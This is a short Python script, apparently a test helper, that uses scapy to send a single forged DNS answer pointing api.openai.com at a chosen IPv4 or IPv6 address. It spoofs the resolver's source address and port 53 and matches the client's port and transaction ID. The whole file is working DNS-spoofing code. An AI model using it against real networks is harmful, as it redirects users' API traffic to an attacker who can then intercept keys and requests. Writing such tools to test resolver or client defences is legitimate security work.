"""Send one forged DNS answer with scapy.

usage: dns_spoof.py --src IP --dst IP --port PORT --query-id ID --address ADDRESS
From SRC port 53 to DST:PORT, transaction ID, answering api.openai.com with ADDRESS
(A or AAAA by its family). Built by scapy's own DNS layer, not by oisp."""

import argparse
import ipaddress

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, UDP
from scapy.layers.inet6 import IPv6
from scapy.sendrecv import send

parser = argparse.ArgumentParser(description="Send one forged DNS answer for api.openai.com.")
parser.add_argument("--src", required=True, help="the forged answer's source (port 53)")
parser.add_argument("--dst", required=True, help="the client's address")
parser.add_argument("--port", type=int, required=True, help="the client's port")
parser.add_argument("--query-id", type=int, required=True, help="the transaction ID")
parser.add_argument("--address", required=True, help="the answer: A or AAAA by its family")
options = parser.parse_args()
src, dst, port, query_id, address = options.src, options.dst, options.port, options.query_id, options.address
v6 = ipaddress.ip_address(address).version == 6
qtype = "AAAA" if v6 else "A"
dns = DNS(id=query_id, qr=1, rd=1, ra=1, qd=DNSQR(qname="api.openai.com", qtype=qtype),
          an=DNSRR(rrname="api.openai.com", type=qtype, ttl=60, rdata=address))
layer = IPv6 if ":" in src else IP
send(layer(src=src, dst=dst) / UDP(sport=53, dport=port) / dns, verbose=0)
